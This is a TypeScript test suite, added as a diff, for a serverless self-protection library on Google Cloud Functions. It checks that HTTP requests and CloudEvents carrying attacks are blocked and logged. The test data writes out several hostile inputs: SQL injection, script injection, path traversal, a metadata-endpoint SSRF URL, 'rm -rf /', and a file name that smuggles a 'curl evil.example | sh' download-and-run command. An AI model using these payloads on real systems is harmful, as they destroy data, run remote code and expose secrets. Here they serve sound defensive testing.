@@ -1,0 +1,526 @@
+import t from 'tap';
+import type { AddressInfo } from 'node:net';
+import * as functions from '@google-cloud/functions-framework';
+import { getTestServer } from '@google-cloud/functions-framework/testing';
+import { protect, RaspConfigError, type SecurityEvent } from '../../adapters/gcp-functions/index';
+import { ATTACKS, BENIGN } from '../helpers/tables';
+
+type Any = any;
+
+function logs() {
+  const lines: SecurityEvent[] = [];
+  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
+}
+
+let seq = 0;
+const uniqueName = (prefix: string): string => `${prefix}-${++seq}`;
+
+/** The real functions-framework server for a registered function, on loopback. */
+async function serve(name: string): Promise<{ url: string; close: () => Promise<void> }> {
+  const server = getTestServer(name);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+}
+
+/** HTTP header values are bytes: text outside Latin-1 travels as its UTF-8 bytes. */
+const asHeader = (s: string): string => (/^[\x00-\xff]*$/.test(s) ? s : Buffer.from(s, 'utf8').toString('latin1'));
+
+interface Placement {
+  where: string;
+  path: string;
+  init: RequestInit;
+  /** Reads the value back from what the handler echoed. */
+  read: (seen: Any) => string | undefined;
+}
+
+function placements(value: string): Placement[] {
+  return [
+    { where: 'query', path: `/orders?q=${encodeURIComponent(value)}&page=2`, init: {}, read: (s) => s.query.q },
+    {
+      where: 'body',
+      path: '/orders',
+      init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ items: [{ name: 'x' }, { name: value }] }) },
+      read: (s) => s.body.items[1].name,
+    },
+    { where: 'header', path: '/orders', init: { headers: { 'x-customer-note': asHeader(value) } }, read: (s) => s.note },
+    {
+      where: 'cookie',
+      path: '/orders',
+      init: { headers: { cookie: `session=abc; pref=${encodeURIComponent(value)}` } },
+      read: (s) => decodeURIComponent(/pref=([^;]*)/.exec(s.cookie)![1]!),
+    },
+    { where: 'path', path: `/orders/${encodeURIComponent(value)}`, init: {}, read: (s) => decodeURIComponent(s.path.slice('/orders/'.length)) },
+  ];
+}
+
+/** An HTTP handler that echoes what it saw. */
+function echo() {
+  const state = { calls: 0 };
+  const handler: functions.HttpFunction = (req, res) => {
+    state.calls++;
+    res.status(200).json({ query: req.query, body: req.body, note: req.headers['x-customer-note'], cookie: req.headers.cookie, path: req.path });
+  };
+  return { state, handler };
+}
+
+t.test('HTTP: every attack in every source is blocked with 403 and the Lambda body', async (t) => {
+  const { lines, log } = logs();
+  const { state, handler } = echo();
+  const name = uniqueName('http-attacks');
+  functions.http(name, protect(handler, { log }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  let n = 0;
+  for (const a of ATTACKS) {
+    for (const p of placements(a.payload)) {
+      const id = `exec-${++n}`;
+      const res = await fetch(srv.url + p.path, { ...p.init, headers: { ...(p.init.headers as Record<string, string>), 'function-execution-id': id } });
+      t.equal(res.status, 403, `${a.class} in ${p.where}: ${a.payload}`);
+      t.match(res.headers.get('content-type'), /^application\/json/);
+      t.same(await res.json(), { error: 'blocked', requestId: id }, 'same JSON as Lambda, no echo');
+    }
+  }
+  t.equal(state.calls, 0, 'the handler never ran');
+  t.equal(lines.length, n);
+  t.ok(lines.every((l) => l.action === 'block' && l.provider === 'gcp' && l.trigger === 'http'));
+});
+
+t.test('HTTP: benign text passes and reaches the handler unchanged', async (t) => {
+  const { lines, log } = logs();
+  const { state, handler } = echo();
+  const name = uniqueName('http-benign');
+  functions.http(name, protect(handler, { log }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  let n = 0;
+  for (const text of BENIGN) {
+    for (const p of placements(text)) {
+      const res = await fetch(srv.url + p.path, p.init);
+      t.equal(res.status, 200, `${p.where}: ${text}`);
+      const seen = await res.json();
+      t.equal(p.read(seen), p.where === 'header' ? asHeader(text) : text);
+      n++;
+    }
+  }
+  t.equal(state.calls, n);
+  t.same(lines, []);
+});
+
+t.test('HTTP: monitor mode passes attacks with a log line', async (t) => {
+  const { lines, log } = logs();
+  const { state, handler } = echo();
+  const name = uniqueName('http-monitor');
+  functions.http(name, protect(handler, { mode: 'monitor', log }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  for (const a of ATTACKS) {
+    const res = await fetch(`${srv.url}/orders?q=${encodeURIComponent(a.payload)}`);
+    t.equal(res.status, 200, a.payload);
+  }
+  t.equal(state.calls, ATTACKS.length);
+  t.equal(lines.length, ATTACKS.length);
+  t.ok(lines.every((l) => l.action === 'monitor' && l.where?.startsWith('query')));
+});
+
+t.test('HTTP: security event shape, execution id, client IP from the right of x-forwarded-for', async (t) => {
+  const { lines, log } = logs();
+  const name = uniqueName('http-event');
+  // Cloud Run sets K_SERVICE (the framework sets FUNCTION_TARGET); read once, when protect() runs.
+  process.env.K_SERVICE = 'orders-fn';
+  const h: functions.HttpFunction = (_req, res) => void res.send('ok');
+  const wrapped = protect(h, { log });
+  delete process.env.K_SERVICE;
+  functions.http(name, wrapped);
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  await fetch(`${srv.url}/x?u=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`, {
+    headers: { 'x-forwarded-for': '198.51.100.7, 203.0.113.9', 'function-execution-id': 'exec-abc' },
+  });
+  const e = lines[0]!;
+  t.same(Object.keys(e).sort(), ['action', 'class', 'findings', 'function', 'micros', 'provider', 'requestId', 'rule', 'sourceIp', 'time', 'trigger', 'type', 'where'].sort());
+  t.match(e, { type: 'serverless-rasp', provider: 'gcp', function: 'orders-fn', requestId: 'exec-abc', trigger: 'http', sourceIp: '203.0.113.9', action: 'block', class: 'ssrf', where: 'query.u' });
+  await fetch(`${srv.url}/x?u=${encodeURIComponent('`whoami`')}`);
+  t.match(lines[1]?.sourceIp, /127\.0\.0\.1$/, 'without the header: the socket peer');
+  t.type(lines[1]?.requestId, 'string', 'the framework execution id');
+});
+
+t.test('HTTP: form bodies, text bodies, binary bodies, big bodies, broken JSON', async (t) => {
+  const { state, handler } = echo();
+  const name = uniqueName('http-bodies');
+  functions.http(name, protect(handler, { log: false }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  const post = (body: RequestInit['body'], type: string) => fetch(`${srv.url}/orders`, { method: 'POST', headers: { 'content-type': type }, body });
+  t.equal((await post('name=ok&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/x-www-form-urlencoded')).status, 403, 'form field');
+  t.equal((await post("search: 1' OR '1'='1", 'text/plain')).status, 403, 'text body');
+  t.equal((await post(Buffer.from(JSON.stringify({ cmd: 'a.txt && rm -rf /' })), 'application/octet-stream')).status, 403, 'JSON in an octet-stream');
+  const calls = state.calls;
+  const big = 'a'.repeat(5 * 1024 * 1024);
+  t.equal((await post(big, 'text/plain')).status, 200, '5 MB body');
+  t.equal((await post(JSON.stringify({ note: big, q: '<script>alert(1)</script>' }), 'application/json')).status, 403, '5 MB body with an attack at the end');
+  const broken = await post('{"items": [1, 2,', 'application/json');
+  t.equal(broken.status, 400, 'invalid JSON: the framework answers 400 before any handler');
+  t.equal((await post('{}', 'application/json')).status, 200, 'and the function still serves');
+  t.equal((await post(Buffer.from([0, 1, 2, 255, 254, 0x89]), 'application/octet-stream')).status, 200, 'binary body');
+  t.equal((await fetch(`${srv.url}/orders`)).status, 200, 'GET without a body');
+  t.equal(state.calls, calls + 4);
+});
+
+// ---- CloudEvents ----
+
+interface CloudEventPost {
+  /** Attributes (specversion, type, source, id, subject, …). */
+  attrs: Record<string, string>;
+  data: unknown;
+  /** Content type of the data; JSON by default. */
+  contentType?: string;
+}
+
+/** Binary content mode: attributes as ce-* headers, data as the body. */
+function binary(ev: CloudEventPost): RequestInit {
+  const headers: Record<string, string> = { 'content-type': ev.contentType ?? 'application/json' };
+  for (const [k, v] of Object.entries(ev.attrs)) headers[`ce-${k}`] = asHeader(v);
+  const body = ev.data instanceof Uint8Array ? ev.data : JSON.stringify(ev.data);
+  return { method: 'POST', headers, body };
+}
+
+/** Structured content mode: the whole event as one JSON document. */
+function structured(ev: CloudEventPost): RequestInit {
+  const doc: Record<string, unknown> = { ...ev.attrs };
+  if (ev.data instanceof Uint8Array) doc.data_base64 = Buffer.from(ev.data).toString('base64');
+  else doc.data = ev.data;
+  if (ev.contentType) doc.datacontenttype = ev.contentType;
+  return { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: JSON.stringify(doc) };
+}
+
+let eventId = 0;
+const attrs = (type: string, source: string, extra: Record<string, string> = {}) => ({
+  specversion: '1.0',
+  type,
+  source,
+  id: `evt-${++eventId}`,
+  time: '2026-05-01T10:00:00Z',
+  ...extra,
+});
+
+const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
+const PUBSUB = 'google.cloud.pubsub.topic.v1.messagePublished';
+const STORAGE = 'google.cloud.storage.object.v1.finalized';
+const FIRESTORE = 'google.cloud.firestore.document.v1.written';
+
+const pubsub = (data: string, attributes: Record<string, string> = {}): CloudEventPost => ({
+  attrs: attrs(PUBSUB, '//pubsub.googleapis.com/projects/demo/topics/orders'),
+  data: {
+    message: { data, attributes, messageId: '9876543210', publishTime: '2026-05-01T10:00:00Z' },
+    subscription: 'projects/demo/subscriptions/eventarc-orders',
+  },
+});
+
+const storage = (name: string, metadata: Record<string, string> = { owner: 'jane' }): CloudEventPost => ({
+  attrs: attrs(STORAGE, '//storage.googleapis.com/projects/_/buckets/uploads', { subject: `objects/${name}` }),
+  data: {
+    kind: 'storage#object',
+    bucket: 'uploads',
+    name,
+    contentType: 'text/plain',
+    metadata,
+    size: '12',
+    selfLink: `https://www.googleapis.com/storage/v1/b/uploads/o/${encodeURIComponent(name)}`,
+    mediaLink: `https://storage.googleapis.com/download/storage/v1/b/uploads/o/${encodeURIComponent(name)}?alt=media`,
+  },
+});
+
+const DOC = 'projects/demo/databases/(default)/documents/users/alice';
+const firestoreJson = (comment: string, docName = DOC): CloudEventPost => ({
+  attrs: attrs(FIRESTORE, '//firestore.googleapis.com/projects/demo/databases/(default)', { subject: 'documents/users/alice' }),
+  data: {
+    value: {
+      name: docName,
+      fields: {
+        comment: { stringValue: comment },
+        age: { integerValue: '42' },
+        tags: { arrayValue: { values: [{ stringValue: 'new' }, { booleanValue: true }] } },
+        address: { mapValue: { fields: { city: { stringValue: 'London' } } } },
+        ref: { referenceValue: 'projects/demo/databases/(default)/documents/orgs/acme' },
+        seen: { timestampValue: '2026-05-01T10:00:00Z' },
+        nothing: { nullValue: null },
+      },
+      createTime: '2026-05-01T10:00:00Z',
+      updateTime: '2026-05-01T10:00:00Z',
+    },
+    updateMask: { fieldPaths: ['comment'] },
+  },
+});
+
+// A minimal protobuf writer for DocumentEventData (google/events/cloud/firestore/v1/data.proto).
+const varint = (n: number): number[] => {
+  const out: number[] = [];
+  while (n > 127) {
+    out.push((n & 127) | 128);
+    n = Math.floor(n / 128);
+  }
+  out.push(n);
+  return out;
+};
+const len = (no: number, bytes: Buffer) => Buffer.concat([Buffer.from(varint(no * 8 + 2)), Buffer.from(varint(bytes.length)), bytes]);
+const pstr = (no: number, s: string) => len(no, Buffer.from(s, 'utf8'));
+const pint = (no: number, n: number) => Buffer.from([...varint(no * 8), ...varint(n)]);
+const entry = (key: string, value: Buffer) => Buffer.concat([pstr(1, key), len(2, value)]);
+function firestoreProto(comment: string): Buffer {
+  const fields = [
+    len(2, entry('comment', pstr(17, comment))),
+    len(2, entry('age', pint(2, 42))),
+    len(2, entry('address', len(6, len(1, entry('city', pstr(17, 'London')))))),
+    len(2, entry('tags', len(9, Buffer.concat([len(1, pstr(17, 'new')), len(1, pint(1, 1))])))),
+  ];
+  const document = Buffer.concat([pstr(1, DOC), ...fields, len(3, pint(1, 1714557600))]);
+  return Buffer.concat([len(1, document), len(3, pstr(1, 'comment'))]);
+}
+const firestoreBinary = (comment: string): CloudEventPost => ({
+  attrs: attrs(FIRESTORE, '//firestore.googleapis.com/projects/demo/databases/(default)', { subject: 'documents/users/alice' }),
+  data: firestoreProto(comment),
+  contentType: 'application/protobuf',
+});
+
+const generic = (note: string, subject = 'orders/7'): CloudEventPost => ({
+  attrs: attrs('com.example.order.created', '/shop/orders', { subject }),
+  data: { order: { id: 7, note } },
+});
+
+interface EventCase {
+  name: string;
+  build: (v: string) => CloudEventPost;
+  /** Reads the value back from the event the handler got (binary mode). */
+  read: (ce: Any, sent: string) => unknown;
+}
+
+const EVENT_CASES: EventCase[] = [
+  { name: 'Pub/Sub JSON message', build: (v) => pubsub(b64(JSON.stringify({ note: v }))), read: (ce) => JSON.parse(Buffer.from(ce.data.message.data, 'base64').toString()).note },
+  { name: 'Pub/Sub text message', build: (v) => pubsub(b64(v)), read: (ce) => Buffer.from(ce.data.message.data, 'base64').toString() },
+  { name: 'Pub/Sub attribute', build: (v) => pubsub(b64('{}'), { origin: v }), read: (ce) => ce.data.message.attributes.origin },
+  { name: 'Cloud Storage object name', build: (v) => storage(v), read: (ce) => ce.data.name },
+  { name: 'Cloud Storage metadata', build: (v) => storage('a.txt', { owner: v }), read: (ce) => ce.data.metadata.owner },
+  { name: 'Firestore document (JSON)', build: (v) => firestoreJson(v), read: (ce) => ce.data.value.fields.comment.stringValue },
+  { name: 'Firestore document (protobuf)', build: (v) => firestoreBinary(v), read: (ce, sent) => (Buffer.from(ce.data).equals(firestoreProto(sent)) ? sent : 'changed') },
+  { name: 'other CloudEvent data', build: (v) => generic(v), read: (ce) => ce.data.order.note },
+  { name: 'other CloudEvent subject', build: (v) => generic('ok', v), read: (ce) => ce.subject },
+];
+
+/** A CloudEvent handler that records what it got. */
+function recorder() {
+  const got: Any[] = [];
+  const handler = async (ce: functions.CloudEvent<unknown>) => {
+    got.push(ce);
+  };
+  return { got, handler };
+}
+
+t.test('CloudEvents: every attack in every payload field is acknowledged and dropped (binary and structured)', async (t) => {
+  for (const mode of [binary, structured]) {
+    for (const c of EVENT_CASES) {
+      t.test(`${mode.name}: ${c.name}`, async (t) => {
+        const { lines, log } = logs();
+        const { got, handler } = recorder();
+        const name = uniqueName('ce-attacks');
+        functions.cloudEvent(name, protect(handler, { log }));
+        const srv = await serve(name);
+        t.teardown(srv.close);
+        const ids: string[] = [];
+        for (const a of ATTACKS) {
+          const ev = c.build(a.payload);
+          ids.push(ev.attrs.id!);
+          const res = await fetch(srv.url, mode(ev));
+          t.equal(res.status, 204, `${a.class}: ${a.payload} acknowledged, not retried`);
+        }
+        t.equal(got.length, 0, 'the handler never ran');
+        t.equal(lines.length, ATTACKS.length, 'one security event per dropped event');
+        t.ok(lines.every((l) => l.action === 'block' && l.provider === 'gcp'));
+        t.same(lines.map((l) => l.requestId), ids, 'the CloudEvent id is the request id');
+      });
+    }
+  }
+});
+
+t.test('CloudEvents: benign text reaches the handler unchanged (binary and structured)', async (t) => {
+  for (const mode of [binary, structured]) {
+    for (const c of EVENT_CASES) {
+      t.test(`${mode.name}: ${c.name}`, async (t) => {
+        const { lines, log } = logs();
+        const { got, handler } = recorder();
+        const name = uniqueName('ce-benign');
+        functions.cloudEvent(name, protect(handler, { log }));
+        const srv = await serve(name);
+        t.teardown(srv.close);
+        for (const text of BENIGN) {
+          const res = await fetch(srv.url, mode(c.build(text)));
+          t.equal(res.status, 204, text);
+          const ce = got[got.length - 1];
+          if (mode === binary) t.equal(c.read(ce, text), c.name.includes('subject') ? asHeader(text) : text, 'the handler read it unchanged');
+        }
+        t.equal(got.length, BENIGN.length);
+        t.same(lines, [], 'no security events');
+      });
+    }
+  }
+});
+
+t.test('CloudEvents: findings have clean paths', async (t) => {
+  const { lines, log } = logs();
+  const name = uniqueName('ce-paths');
+  functions.cloudEvent(name, protect(async () => undefined, { log }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  await fetch(srv.url, binary(pubsub(b64(JSON.stringify({ items: [{}, { q: "x'; DROP TABLE customers; --" }] })))));
+  await fetch(srv.url, binary(firestoreJson('<script>alert(1)</script>')));
+  await fetch(srv.url, binary(firestoreBinary('../../../../etc/passwd')));
+  await fetch(srv.url, structured(storage('uploads/$(curl http://evil.example/x.sh | sh)')));
+  t.same(
+    lines.map((l) => [l.trigger, l.where]),
+    [
+      ['pubsub', 'data.message.data.items[1].q'],
+      ['firestore', 'data.value.fields.comment'],
+      ['firestore', 'data.value.fields.comment'],
+      ['storage', 'data.name'],
+    ],
+  );
+});
+
+t.test('CloudEvents: `schema` validates the Pub/Sub message', async (t) => {
+  const { lines, log } = logs();
+  const { got, handler } = recorder();
+  const name = uniqueName('ce-schema');
+  const schema = { type: 'object', required: ['sku'], properties: { sku: { type: 'string' } }, additionalProperties: false };
+  functions.cloudEvent(name, protect(handler, { log, schema }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  t.equal((await fetch(srv.url, binary(pubsub(b64('{"sku":"AB-1"}'))))).status, 204);
+  t.equal((await fetch(srv.url, binary(pubsub(b64('{"sku":"AB-1","admin":true}'))))).status, 204, 'dropped');
+  t.equal(got.length, 1);
+  t.equal(lines[0]?.class, 'schema');
+  t.equal(lines[0]?.where, 'data.message.data.admin', 'the path of the offending property');
+});
+
+t.test('CloudEvents: monitor mode runs the handler and logs', async (t) => {
+  const { lines, log } = logs();
+  const { got, handler } = recorder();
+  const name = uniqueName('ce-monitor');
+  functions.cloudEvent(name, protect(handler, { mode: 'monitor', log }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  for (const c of EVENT_CASES) t.equal((await fetch(srv.url, binary(c.build(ATTACKS[6]!.payload)))).status, 204);
+  t.equal(got.length, EVENT_CASES.length);
+  t.equal(lines.length, EVENT_CASES.length);
+  t.ok(lines.every((l) => l.action === 'monitor'));
+});
+
+t.test('CloudEvents: malformed events never crash the function', async (t) => {
+  const { lines, log } = logs();
+  const { got, handler } = recorder();
+  const name = uniqueName('ce-malformed');
+  functions.cloudEvent(name, protect(handler, { log }));
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  const cases: Array<[string, RequestInit]> = [
+    ['bad base64 in Pub/Sub data', binary(pubsub('not base64 at all!!'))],
+    ['Pub/Sub without data', binary({ attrs: attrs(PUBSUB, '//pubsub.googleapis.com/projects/demo/topics/orders'), data: { message: { messageId: '1' } } })],
+    ['Pub/Sub with null message', binary({ attrs: attrs(PUBSUB, '//pubsub.googleapis.com/projects/demo/topics/orders'), data: { message: null } })],
+    ['null data', structured({ attrs: attrs('com.example.x', '/x'), data: null })],
+    ['missing attributes', { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: JSON.stringify({ data: { a: 1 } }) }],
+    ['empty structured event', { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: '{}' }],
+    ['Firestore with garbage protobuf', binary({ ...firestoreBinary('x'), data: Buffer.from([0xff, 0xff, 0xff, 0x0f, 0x01]) })],
+    ['Firestore with no value', binary({ attrs: attrs(FIRESTORE, '//firestore.googleapis.com/x'), data: {} })],
+    ['Storage with a numeric name', binary({ attrs: attrs(STORAGE, '//storage.googleapis.com/x'), data: { name: 5, metadata: 'x' } })],
+    ['5 MB message', binary(pubsub(b64('a'.repeat(5 * 1024 * 1024))))],
+  ];
+  for (const [what, init] of cases) {
+    const res = await fetch(srv.url, init);
+    t.equal(res.status, 204, what);
+  }
+  t.equal(got.length, cases.length, 'each reached the handler');
+  t.ok(lines.every((l) => l.action !== 'block'), 'nothing malformed was treated as an attack');
+  const bad = await fetch(srv.url, { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: '{"specversion": ' });
+  t.equal(bad.status, 400, 'unparseable structured event: the framework answers 400');
+  t.equal((await fetch(srv.url, binary(generic('ok')))).status, 204, 'and keeps serving');
+});
+
+t.test('callback-style CloudEvent handlers keep their arity and are acknowledged when dropped', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const handler = (_ce: functions.CloudEvent<unknown>, callback: Function) => {
+    calls++;
+    callback(null, undefined);
+  };
+  const wrapped = protect(handler, { log });
+  t.equal(wrapped.length, 2, 'two parameters: the framework passes a callback');
+  const name = uniqueName('ce-callback');
+  functions.cloudEvent(name, wrapped);
+  const srv = await serve(name);
+  t.teardown(srv.close);
+  t.equal((await fetch(srv.url, binary(generic('fine')))).status, 204);
+  t.equal((await fetch(srv.url, binary(generic('<script>alert(1)</script>')))).status, 204, 'dropped, the callback was called for it');
+  t.equal(calls, 1);
+  t.equal(lines.length, 1);
+});
+
+t.test('arity: the wrapper has the handler\'s parameter count (1 to 3)', async (t) => {
+  t.equal(protect(async (_ce: functions.CloudEvent<unknown>) => undefined).length, 1);
+  t.equal(protect(((_req, _res) => undefined) as functions.HttpFunction).length, 2);
+  t.equal(protect(((_d: {}, _c: functions.Context, _cb: Function) => undefined) as functions.EventFunctionWithCallback).length, 3);
+  t.equal(protect((() => undefined) as functions.CloudEventFunction).length, 1);
+});
+
+t.test('legacy background functions (data, context[, callback])', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const fn = protect(((_data: {}, _context: functions.Context) => {
+    calls++;
+    return 'ran';
+  }) as functions.EventFunction, { log });
+  t.equal(await fn({ note: 'Tom & Jerry' }, { eventId: 'e1', eventType: 'providers/cloud.pubsub/eventTypes/topic.publish' }), 'ran');
+  t.equal(await fn({ note: '`whoami`' }, { eventId: 'e2' }), undefined, 'dropped');
+  t.equal(calls, 1);
+  t.equal(lines[0]?.requestId, 'e2');
+  let acked = false;
+  const cb = protect(((_d: {}, _c: functions.Context, callback: Function) => callback()) as functions.EventFunctionWithCallback, { log: false });
+  cb({ q: '<script>alert(1)</script>' }, { eventId: 'e3' }, (err: unknown) => {
+    acked = err === null;
+  });
+  t.ok(acked, 'callback called without error');
+});
+
+t.test('library failures fail open (or closed with failClosed)', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const open = protect(((req: Any, res: Any) => {
+    calls++;
+    res.send('ok');
+  }) as functions.HttpFunction, { log });
+  // A request object whose headers explode when read.
+  const hostile = { method: 'GET', headers: new Proxy({}, { ownKeys: () => { throw new Error('boom'); } }) };
+  const sent: unknown[] = [];
+  const res = { status: () => res, set: () => res, send: (b: unknown) => void sent.push(b) };
+  open(hostile as Any, res as Any);
+  t.equal(calls, 1, 'handler ran');
+  t.equal(lines[0]?.action, 'error');
+  const closed = protect(((_req: Any, r: Any) => r.send('ok')) as functions.HttpFunction, { log: false, failClosed: true });
+  closed(hostile as Any, res as Any);
+  t.match(String(sent[sent.length - 1]), /"error":"blocked"/);
+});
+
+t.test('options and handler are checked at cold start; mode off returns the handler', async (t) => {
+  t.throws(() => protect(null as Any), RaspConfigError);
+  t.throws(() => protect((() => undefined) as functions.HttpFunction, { paranoia: 9 } as Any), { code: 'RASP_ERR_OPTIONS' });
+  const h: functions.HttpFunction = (_req, res) => void res.send('x');
+  t.equal(protect(h, { mode: 'off' }), h);
+});
+
+t.test('types: protect() fits functions.http and functions.cloudEvent', async (t) => {
+  // Compile-time checks: parameters are inferred from the registration.
+  functions.http(uniqueName('typed-http'), protect((req, res) => void res.json({ body: req.body as unknown, raw: req.rawBody?.length })));
+  functions.cloudEvent<{ message: { data: string } }>(uniqueName('typed-ce'), protect(async (ce: functions.CloudEvent<{ message: { data: string } }>) => void ce.data?.message.data));
+  t.pass();
+});
